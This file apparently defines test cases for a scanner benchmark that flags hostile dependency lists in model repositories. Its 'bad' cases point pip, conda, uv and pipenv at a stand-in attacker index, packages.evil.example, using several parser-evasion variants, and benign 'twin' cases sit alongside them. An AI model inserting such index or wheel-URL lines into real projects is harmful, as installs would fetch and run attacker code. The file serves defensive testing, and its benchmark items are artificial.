"""Lists of what is installed: indexes and sources that are not the package index."""

from __future__ import annotations

from benchmarks.scan.hostile.cases import Case, bad, twin
from benchmarks.scan.hostile.ordinary import chat, vit

INSTALL = "pip install -r, as Inference Endpoints and Spaces do by themselves: packages, and so code, of another host"
HANDLER = """from transformers import pipeline


class EndpointHandler:
    def __init__(self, path=""):
        self.pipe = pipeline("image-classification", model=path)

    def __call__(self, data):
        return self.pipe(data["inputs"])
"""
PLAIN = "torch>=2.1\ntransformers==4.44.2\nPillow\n"


def _list(label: str, body: str, path: str = "requirements.txt", loader: str = INSTALL) -> Case:
    """With the handler of an Inference Endpoint, which installs the list before it starts."""
    return bad(label, loader, lambda: vit({path: body, "handler.py": HANDLER}))


def _alone(label: str, body: str, path: str, loader: str) -> Case:
    """A list that a person, or a tool that a person starts, installs."""
    return bad(label, loader, lambda: vit({path: body}))


CASES: tuple[Case, ...] = (
    _list("index-url", "--index-url http://127.0.0.1:9/simple\n" + PLAIN),
    _list("extra-index-url", PLAIN + "--extra-index-url=https://packages.evil.example/simple\n"),
    _list("short-index", "-i https://packages.evil.example/simple\n" + PLAIN),
    _list("short-index-without-space", "-ihttps://packages.evil.example/simple\n" + PLAIN),
    _list(
        "abbreviated-option",
        "--extra-index https://packages.evil.example/simple\n" + PLAIN,
        loader=INSTALL + "; pip's parser takes any prefix of an option",
    ),
    _list("over-two-lines", PLAIN + "--extra-\\\nindex-url https://packages.evil.example/simple\n"),
    _list("find-links", "--find-links https://packages.evil.example/wheels\n" + PLAIN),
    _list("wheel-by-address", PLAIN + "helper @ https://packages.evil.example/helper-1.0-py3-none-any.whl\n"),
    _list("bare-address", PLAIN + "https://packages.evil.example/helper-1.0.tar.gz\n"),
    _list("another-list-by-address", "-r https://packages.evil.example/requirements.txt\n"),
    _alone(
        "environment-of-conda",
        "name: x\nchannels: [defaults]\ndependencies:\n- python=3.10\n- pip:\n  - --extra-index-url "
        "https://packages.evil.example/simple\n  - helper\n",
        "environment.yml",
        "conda env create hands the lines to pip",
    ),
    _alone(
        "project-file",
        "[project]\nname = 'x'\nversion = '1'\n[[tool.uv.index]]\nurl = 'https://packages.evil.example/simple'\n"
        "default = true\n",
        "pyproject.toml",
        "uv sync installs from that index",
    ),
    _alone(
        "pipfile",
        "[[source]]\nurl = 'https://packages.evil.example/simple'\nverify_ssl = false\nname = 'x'\n[packages]\nhelper"
        " = '*'\n",
        "Pipfile",
        "pipenv install installs from that index",
    ),
    bad(
        "of-custom-generate",
        "users install what transformers' check of custom_generate/requirements.txt asks for",
        lambda: chat({"custom_generate/requirements.txt": "--index-url http://127.0.0.1:9/simple\nhelper\n"}),
    ),
    _alone(
        "under-another-name",
        PLAIN + "--extra-index-url https://packages.evil.example/simple\n",
        "requirements/gpu.txt",
        "pip install -r",
    ),
    # twins
    twin("plain", "pip", lambda: vit({"requirements.txt": PLAIN, "handler.py": HANDLER})),
    twin(
        "from-git",
        "pip",
        lambda: vit({"requirements.txt": "git+https://github.com/huggingface/transformers\n" + PLAIN}),
    ),
    twin(
        "torch-index",
        "pip",
        lambda: vit({"requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cu121\n" + PLAIN}),
    ),
    twin(
        "wheel-of-a-release",
        "pip",
        lambda: vit(
            {
                "requirements.txt": (
                    PLAIN
                    + "https://github.com/Dao-AILab/flash-attention/releases/download/v2.6.3/flash_attn-2.6.3+cu123torch2.4cxx11abiFALSE-cp310-cp310-linux_x86_64.whl\n"
                ),
                "handler.py": HANDLER,
            }
        ),
    ),
    twin(
        "wheels-of-a-project",
        "pip",
        lambda: vit(
            {"requirements.txt": "-f https://data.pyg.org/whl/torch-2.1.0+cu121.html\ntorch-scatter\n" + PLAIN}
        ),
    ),
    twin("editable", "pip", lambda: vit({"requirements.txt": "-e .\n" + PLAIN, "setup.cfg": "[metadata]\nname = x\n"})),
    twin(
        "comments-and-markers",
        "pip",
        lambda: vit(
            {
                "requirements.txt": (
                    "# pip install -i http://x is wrong\nnumpy<2; python_version "
                    "< '3.12'\nuvicorn[standard]\n-r dev.txt\n"
                ),
                "dev.txt": "pytest\n",
            }
        ),
    ),
    twin(
        "frozen-by-pip",
        "pip",
        lambda: vit(
            {"requirements.txt": "certifi @ file:///croot/certifi_1690232220950/work/certifi\nnumpy==1.26.4\n"}
        ),
    ),
    twin(
        "conda",
        "conda",
        lambda: vit(
            {
                "environment.yml": (
                    "name: x\nchannels:\n- pytorch\n- conda-forge\ndependencies:\n- python=3.10\n"
                    "- pip:\n  - timm==1.0.9\n"
                )
            }
        ),
    ),
    twin(
        "project",
        "pip",
        lambda: vit(
            {
                "pyproject.toml": (
                    "[build-system]\nrequires = ['setuptools']\n[project]\nname = 'x'\nversion = "
                    "'1'\ndependencies = ['torch', 'timm']\n"
                )
            }
        ),
    ),
)
